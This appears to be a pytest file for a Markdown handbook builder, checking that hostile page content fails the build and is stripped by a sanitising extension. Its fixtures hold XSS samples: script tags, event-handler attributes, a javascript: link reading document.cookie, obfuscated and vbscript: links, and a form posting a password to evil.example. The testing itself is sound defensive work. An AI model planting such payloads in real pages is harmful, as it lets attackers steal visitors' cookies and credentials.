"""Hostile page bodies: the build and `handbook check` fail naming file and line; pages stay clean.

Raw HTML and links that could run a script are content problems (the loader's body check),
and the safe HTML extension removes them from the converted pages as well, in case a form
ever slips past the check: the second test builds with the check switched off to see that.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pytest
from lxml import html as lxml_html

from handbook.safety.urls import Use, refusal

CHAPTER = "handbooks/starter/first-steps.md"
HOSTILE = """
Raw script: <script>alert("chapter")</script>

<img src="x.png" onerror="alert(1)">

A [harmless looking link](javascript:alert(document.cookie)) and ![a picture](data:image/svg+xml,x).

<iframe src="https://evil.example"></iframe>

<div class="no-term-links" markdown onmouseover="alert(2)">
Inside a Markdown block: <a href="&#106;avascript:alert(3)">click</a>
</div>

[defined]: vbscript:msgbox(1)
"""
PAGE = "docs/about/index.md"
PAGE_BODY = """
Some <span style="position: fixed; inset: 0" class="overlay">text</span>.

<form action="https://evil.example/collect"><input name="password"></form>

Heading
{: onclick="alert(4)" }
"""
# Lines are counted in the files as written (see the fixtures): the chapter's body starts
# after its 8 lines of front matter, and the hostile text after the body's 12 lines.


def _hostile(root: Path) -> tuple[int, int]:
    chapter = root / CHAPTER
    text = chapter.read_text(encoding="utf-8")
    chapter.write_text(text + HOSTILE, encoding="utf-8")
    page = root / PAGE
    page_text = page.read_text(encoding="utf-8")
    page.write_text(page_text + PAGE_BODY, encoding="utf-8")
    return len(text.splitlines()), len(page_text.splitlines())


def _expected(chapter_end: int, page_end: int) -> list[str]:
    c, p = chapter_end, page_end
    return [
        f"{CHAPTER}:{c + 2}: html: <script> is not allowed in content",
        f"{CHAPTER}:{c + 4}: html: <img onerror> is not allowed in content",
        f"{CHAPTER}:{c + 6}: link: 'javascript:alert(document.cookie)' uses the scheme 'javascript'",
        f"{CHAPTER}:{c + 6}: link: 'data:image/svg+xml,x' uses the scheme 'data'",
        f"{CHAPTER}:{c + 8}: html: <iframe> is not allowed in content",
        f"{CHAPTER}:{c + 10}: html: <div onmouseover> is not allowed in content",
        f"{CHAPTER}:{c + 11}: html: <a href='javascript:alert(3)'> uses the scheme 'javascript'",
        f"{CHAPTER}:{c + 14}: link: 'vbscript:msgbox(1)' uses the scheme 'vbscript'",
        f"{PAGE}:{p + 2}: html: <span style> is not allowed in content",
        f"{PAGE}:{p + 4}: html: <form> is not allowed in content",
        f"{PAGE}:{p + 4}: html: <input> is not allowed in content",
        f"{PAGE}:{p + 7}: attributes: {{: onclick=...}} is not allowed in content",
    ]


@pytest.fixture(scope="module")
def hostile_project(tmp_path_factory, make_project) -> tuple[Path, list[str]]:
    root = make_project(tmp_path_factory.mktemp("hostile-bodies"), git=False)
    return root, _expected(*_hostile(root))


def test_the_build_fails_naming_each_file_and_line(hostile_project, build):
    root, expected = hostile_project
    result = build(root, env={"HANDBOOK_PDF": "0", "HANDBOOK_OFFLINE_COPY": "0"})
    assert result.returncode != 0
    assert "Traceback" not in result.log
    for line in expected:
        assert line in result.log, line
    assert not (root / "site" / "handbooks" / "starter" / "first-steps" / "index.html").exists()


def test_handbook_check_fails_with_the_same_problems(hostile_project):
    root, expected = hostile_project
    result = subprocess.run([sys.executable, "-m", "handbook", "check"], cwd=root, capture_output=True, text=True)
    assert result.returncode != 0
    for line in expected:
        assert line in result.stdout + result.stderr, line


def test_pages_are_clean_even_if_the_check_missed_everything(tmp_path, monkeypatch, make_project):
    """The extension is the second line: with the body check switched off, the build
    writes the pages, and none of them carries a script, a handler or a refused URL."""
    from mkdocs.commands.build import build as mkdocs_build
    from mkdocs.config import load_config

    import handbook.content.corpus

    root = make_project(tmp_path / "project")
    _hostile(root)
    monkeypatch.setattr(handbook.content.corpus, "body_problems", lambda *args: [])
    monkeypatch.setattr(
        handbook.content.corpus, "reference_problems", lambda *args: []
    )  # the image checks see the same URLs
    monkeypatch.chdir(root)
    # English only: the Welsh site is another process, where the checks switched off here run
    # and refuse the content (as they should); this test is about the extension in this one.
    quick = {"HANDBOOK_PDF": "0", "HANDBOOK_OFFLINE_COPY": "0", "HANDBOOK_LANGUAGES": "", "NO_MKDOCS_2_WARNING": "1"}
    for name, value in quick.items():
        monkeypatch.setenv(name, value)
    config = load_config(str(root / "mkdocs.yml"), site_dir=str(root / "site"))
    config.plugins.on_startup(command="build", dirty=False)
    try:
        mkdocs_build(config)
    finally:
        config.plugins.on_shutdown()
    for url in ("handbooks/starter/first-steps/", "about/"):
        page = (root / "site" / url / "index.html").read_text(encoding="utf-8")
        article = lxml_html.fromstring(page).xpath("//article")[0]
        assert "Inside a Markdown block" in article.text_content() or url == "about/"
        for element in article.iter():
            if not isinstance(element.tag, str):
                continue
            assert element.tag not in ("script", "iframe", "form", "input", "object", "embed"), url
            for name, value in element.attrib.items():
                assert not name.startswith("on"), (url, name)
                if name in ("href", "src"):
                    assert refusal(value, Use.RENDERED) is None, (url, name, value)
